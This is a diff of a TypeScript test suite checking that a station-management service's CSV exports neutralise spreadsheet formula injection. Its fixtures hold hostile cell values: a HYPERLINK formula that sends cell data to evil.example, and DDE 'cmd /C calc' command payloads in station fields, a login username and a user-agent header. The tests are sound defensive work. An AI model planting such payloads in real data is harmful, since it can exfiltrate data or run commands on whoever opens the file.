@@ -17,14 +17,31 @@ beforeAll(async () => {
   tok = (await addUser(t, customer, 'csv-a', ['revise.point.admin'])).token;
   admin = (await t.login('admin')).access_token;
 });
-afterAll(async () => { await t.close(); });
+afterAll(async () => {
+  await t.close();
+});
 
 const hostile = {
-  stationNumber: '51573', name: '=HYPERLINK("http://evil.example/?x="&A1,"点我")', province: '+新疆', city: '-吐鲁番市', district: '@高昌区',
-  address: '\t地址', longitude: -12.5, latitude: 42.93, altitude: -154, contactPerson: "'=已带引号", contactPhone: '+86 995 000 0000',
-  remarks: '-2+3+cmd|\' /C calc\'!A0',
+  stationNumber: '51573',
+  name: '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
+  province: '+新疆',
+  city: '-吐鲁番市',
+  district: '@高昌区',
+  address: '\t地址',
+  longitude: -12.5,
+  latitude: 42.93,
+  altitude: -154,
+  contactPerson: "'=已带引号",
+  contactPhone: '+86 995 000 0000',
+  remarks: "-2+3+cmd|' /C calc'!A0",
 };
-const stationRow = () => t.db.db.selectFrom('station').selectAll().where('customer_id', '=', customer).where('station_number', '=', '51573').executeTakeFirstOrThrow();
+const stationRow = () =>
+  t.db.db
+    .selectFrom('station')
+    .selectAll()
+    .where('customer_id', '=', customer)
+    .where('station_number', '=', '51573')
+    .executeTakeFirstOrThrow();
 
 describe('station export', () => {
   it('neutralises hostile text, quoted, and keeps negative numbers numeric', async () => {
@@ -35,8 +52,17 @@ describe('station export', () => {
     const [header, row] = parseCsv(res.body);
     const cells = Object.fromEntries(header!.fields.map((h, k) => [h, row!.fields[k]!]));
     expect(cells).toMatchObject({
-      stationNumber: '51573', name: `'${hostile.name}`, province: "'+新疆", city: "'-吐鲁番市", district: "'@高昌区", address: '地址',
-      longitude: '-12.5', latitude: '42.93', altitude: '-154', contactPerson: "''=已带引号", contactPhone: "'+86 995 000 0000",
+      stationNumber: '51573',
+      name: `'${hostile.name}`,
+      province: "'+新疆",
+      city: "'-吐鲁番市",
+      district: "'@高昌区",
+      address: '地址',
+      longitude: '-12.5',
+      latitude: '42.93',
+      altitude: '-154',
+      contactPerson: "''=已带引号",
+      contactPhone: "'+86 995 000 0000",
       remarks: `'${hostile.remarks}`,
     });
     for (const cell of row!.fields) {
@@ -51,27 +77,41 @@ describe('station export', () => {
     const before = await stationRow();
     const csv = (await call(t, tok, 'GET', '/api/station/export')).body;
     const m = multipart({ name: 'stations.csv', bytes: csv });
-    const res = await t.app.inject({ method: 'POST', url: '/api/station/import', payload: m.payload, headers: { ...m.headers, ...t.bearer(tok) } });
+    const res = await t.app.inject({
+      method: 'POST',
+      url: '/api/station/import',
+      payload: m.payload,
+      headers: { ...m.headers, ...t.bearer(tok) },
+    });
     expect(res.json()).toMatchObject({ code: 0, data: { inserted: 0, updated: 1, total: 1 } });
     const after = await stationRow();
     expect({ ...after, version: before.version, updated_at: before.updated_at }).toEqual(before);
-    expect(after).toMatchObject({ name: hostile.name, contact_phone: hostile.contactPhone, contact_person: hostile.contactPerson, longitude: -12.5 });
+    expect(after).toMatchObject({
+      name: hostile.name,
+      contact_phone: hostile.contactPhone,
+      contact_person: hostile.contactPerson,
+      longitude: -12.5,
+    });
   });
 });
 
 describe('operation log export', () => {
   it('neutralises the username and user agent of an anonymous failed sign-in', async () => {
-    const username = '=cmd|\' /C calc\'!A0';
-    const agent = '@SUM(1+1)*cmd|\' /C calc\'!A0';
-    const failed = await t.app.inject({ method: 'POST', url: '/api/login/login', payload: { username, password: 'wrong!' }, headers: { 'user-agent': agent } });
+    const username = "=cmd|' /C calc'!A0";
+    const agent = "@SUM(1+1)*cmd|' /C calc'!A0";
+    const failed = await t.app.inject({
+      method: 'POST',
+      url: '/api/login/login',
+      payload: { username, password: 'wrong!' },
+      headers: { 'user-agent': agent },
+    });
     expect(failed.json().code).toBe(4101);
     const res = await t.app.inject({ method: 'GET', url: '/api/log/export?action=login', headers: t.bearer(admin) });
     expect(res.statusCode).toBe(200);
     const [header, ...rows] = parseCsv(res.body);
     const col = (name: string) => header!.fields.indexOf(name);
     const row = rows.find((r) => r.fields[col('username')] === `'${username}`);
-    expect(row).toBeDefined();
-    expect(row!.fields[col('agent')]).toBe(`'${agent}`);
+    expect(row?.fields[col('agent')]).toBe(`'${agent}`);
     for (const r of rows) for (const cell of r.fields) if (DANGEROUS.test(cell)) expect(Number.isFinite(Number(cell))).toBe(true);
     expect(res.body).toContain(`"'${username.replace(/"/g, '""')}"`);
   });
